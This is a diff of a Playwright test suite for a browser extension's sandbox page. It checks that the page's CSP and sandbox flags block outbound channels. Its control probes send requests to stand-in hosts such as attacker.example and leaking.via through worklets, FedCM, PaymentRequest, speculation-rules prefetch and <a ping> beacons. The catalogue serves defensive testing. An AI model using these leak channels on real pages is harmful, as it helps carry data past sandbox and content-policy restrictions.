@@ -31,6 +31,41 @@ const DOCUMENT_CONTROLS: Control[] = [
     run: `(() => { const f = document.createElement('iframe'); f.src = 'http://attacker.example/control-frame'; document.body.append(f); })()`,
     seen: (h) => h.path === '/control-frame',
   },
+  // Secure-context channels, from https://other.test/.
+  {
+    channel: 'paint worklet',
+    https: true,
+    run: `CSS.paintWorklet.addModule('https://leaking.via/control-paint.js').catch(() => 0)`,
+    seen: (h) => h.host === 'leaking.via' && h.path === '/control-paint.js',
+  },
+  {
+    channel: 'audio worklet',
+    https: true,
+    run: `new AudioContext().audioWorklet.addModule('https://leaking.via/control-audio.js').catch(() => 0)`,
+    seen: (h) => h.host === 'leaking.via' && h.path === '/control-audio.js',
+  },
+  {
+    // Chromium asks the identity provider for its well-known file and its config before anything else.
+    channel: 'FedCM',
+    https: true,
+    run: `void navigator.credentials.get({ identity: { providers: [{ configURL: 'https://leaking.via/control-fedcm.json', clientId: 'x' }] } }).catch(() => 0)`,
+    seen: (h) => h.host === 'leaking.via' && (h.path === '/control-fedcm.json' || h.path === '/.well-known/web-identity'),
+  },
+  {
+    // A URL payment method: Chromium fetches its manifest (HEAD) to answer canMakePayment.
+    channel: 'PaymentRequest',
+    https: true,
+    run: `new PaymentRequest([{ supportedMethods: 'https://leaking.via/control-pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(() => 0)`,
+    seen: (h) => h.host === 'leaking.via' && h.path === '/control-pay',
+  },
+  {
+    // With a proxy configured, Chromium prefetches only same-site (cross-site is PrefetchNotEligibleExistingProxy,
+    // asserted below), and only over https; sub.other.test is same-site with other.test and not a fixture host.
+    channel: 'speculation rules prefetch',
+    https: true,
+    run: `(() => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://sub.other.test/control-speculation'] }] }); document.body.append(s); })()`,
+    seen: (h) => h.host === 'sub.other.test' && h.path === '/control-speculation',
+  },
 ];
 
 test('the sandbox page blocks, by its own CSP and sandbox flags, every document channel; blob: code runs', async ({
@@ -100,6 +135,24 @@ test('the sandbox page blocks, by its own CSP and sandbox flags, every document 
 
   const seen = await runControls(page, witness, DOCUMENT_CONTROLS);
   for (const c of DOCUMENT_CONTROLS) expect(seen[c.channel], `control "${c.channel}" seen`).toBeGreaterThan(0);
+  // A fact of this browser, not of the sandbox: a cross-site prefetch, like the sandbox probe's, Chromium
+  // refuses by itself while a proxy is configured (and any prefetch over http), so for that probe the
+  // evidence is its own refusal above (inline speculation rules against script-src), and the control is same-site.
+  await page.goto('https://other.test/index.html');
+  const preload = await context.newCDPSession(page);
+  const prefetches: string[] = [];
+  preload.on('Preload.prefetchStatusUpdated' as never, (e: { prefetchUrl?: string; prefetchStatus?: string }) => {
+    if (e.prefetchUrl?.startsWith('https://attacker.example/')) prefetches.push(e.prefetchStatus ?? '');
+  });
+  await preload.send('Preload.enable' as never);
+  await page.evaluate(() => {
+    const s = document.createElement('script');
+    s.type = 'speculationrules';
+    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['https://attacker.example/control-speculation-cross-site'] }] });
+    document.body.append(s);
+  });
+  await expect.poll(() => prefetches).toContain('PrefetchNotEligibleExistingProxy');
+  await preload.detach();
   // The control for navigation of a frame, popups and the top: an ordinary page's popup reaches the witness.
   await page.goto('http://other.test/index.html');
   await page.evaluate(() => {
@@ -125,9 +178,11 @@ test('the offscreen document frames only sandbox pages, with the sandbox attribu
   const page = await openPage('shop.test', '/index.html');
   const { ids } = await installOn(page, tabIdOf, openExtensionPage, [{ name: 'Framed', matches: ['*://shop.test/*'], script: `rmx.log('up')` }]);
   await expectLive(evaluateInOffscreen, ids);
-  expect(await evaluateInOffscreen(`[...document.querySelectorAll('iframe')].map((f) => f.getAttribute('sandbox') + ' ' + new URL(f.src).pathname)`)).toEqual([
+  // Spare frames (offscreen/spares.ts) are the same sandbox page with the same attribute, bound to nothing.
+  expect(await evaluateInOffscreen(`[...document.querySelectorAll('iframe:not([data-spare])')].map((f) => f.getAttribute('sandbox') + ' ' + new URL(f.src).pathname)`)).toEqual([
     'allow-scripts /sandbox/sandbox.html',
   ]);
+  expect(await evaluateInOffscreen(`[...document.querySelectorAll('iframe[data-spare]')].every((f) => f.getAttribute('sandbox') === 'allow-scripts' && new URL(f.src).pathname === '/sandbox/sandbox.html')`)).toBe(true);
   await witness.clear();
   const offscreen = await WatchedTarget.attach(context, await cdp.findOffscreenTarget());
   const frame = (url: string) =>
@@ -147,4 +202,63 @@ test('the offscreen document frames only sandbox pages, with the sandbox attribu
   const win = await sandboxWindow(context, cdp.listTargets);
   expect(await win.evaluate(`[origin, typeof chrome === 'undefined' || typeof chrome.runtime === 'undefined' || typeof chrome.runtime.sendMessage].join(' ')`)).toBe('null true');
   await win.detach();
+});
+
+// The harness runs Chromium with --no-pings, so no page can send an <a ping> there: that run proves nothing
+// about the sandbox. Here hyperlink auditing is on, and the same browser shows it works from a page.
+test.describe('with hyperlink auditing on', () => {
+  test.use({ omitChromiumArgs: ['--no-pings'] });
+
+  test('an <a ping> clicked in the sandbox page reaches no witness; the same link on an ordinary page pings it', async ({
+    openPage,
+    openExtensionPage,
+    tabIdOf,
+    evaluateInOffscreen,
+    context,
+    cdp,
+    witness,
+  }) => {
+    const page = await openPage('shop.test', '/index.html');
+    const { panel, ids } = await installOn(page, tabIdOf, openExtensionPage, [{ name: 'Framed', matches: ['*://shop.test/*'], script: `rmx.log('up')` }]);
+    await expectLive(evaluateInOffscreen, ids);
+    await witness.clear();
+    const win = await sandboxWindow(context, cdp.listTargets);
+    // A link within the document, then one that leaves it (the frame policy refuses that navigation, and the
+    // frame, now on an error document, is torn down).
+    const clicked = await win.evaluate<string>(
+      String.raw`(() => {
+        const link = (id, href) => { const a = document.createElement('a'); a.id = id; a.href = href; a.ping = 'http://attacker.example/window-ping-' + id; a.textContent = id; document.body.append(a); return a; };
+        link('fragment', '#here').click();
+        const before = location.href;
+        setTimeout(() => link('away', 'http://other.test/index.html?from-sandbox').click(), 300);
+        return before;
+      })()`,
+      { userGesture: true },
+    );
+    expect(clicked).toMatch(/\/sandbox\/sandbox\.html/);
+    await expectLive(evaluateInOffscreen, []);
+    await waitForLog(panel, ids[0]!, /sandbox ended: the sandbox frame loaded a second document/);
+    await win.detach();
+    await witness.expectNoHits({ settleMs: 1_500 });
+
+    // The same two links on an ordinary page in this browser: each click sends its ping (a POST).
+    await page.goto('http://other.test/index.html');
+    for (const [id, href] of [['fragment', '#here'], ['away', '/index.html?pinged']] as const) {
+      await page.evaluate(
+        ({ id, href }) => {
+          const a = document.createElement('a');
+          a.id = id;
+          a.href = href;
+          a.ping = `http://attacker.example/control-ping-${id}`;
+          a.textContent = id;
+          document.body.append(a);
+        },
+        { id, href },
+      );
+      await page.locator(`#${id}`).click();
+    }
+    await witness.waitForHits((h) => ['fragment', 'away'].every((id) => h.some((x) => x.path === `/control-ping-${id}` && x.method === 'POST')), {
+      message: 'the ordinary page did not send both pings',
+    });
+  });
 });
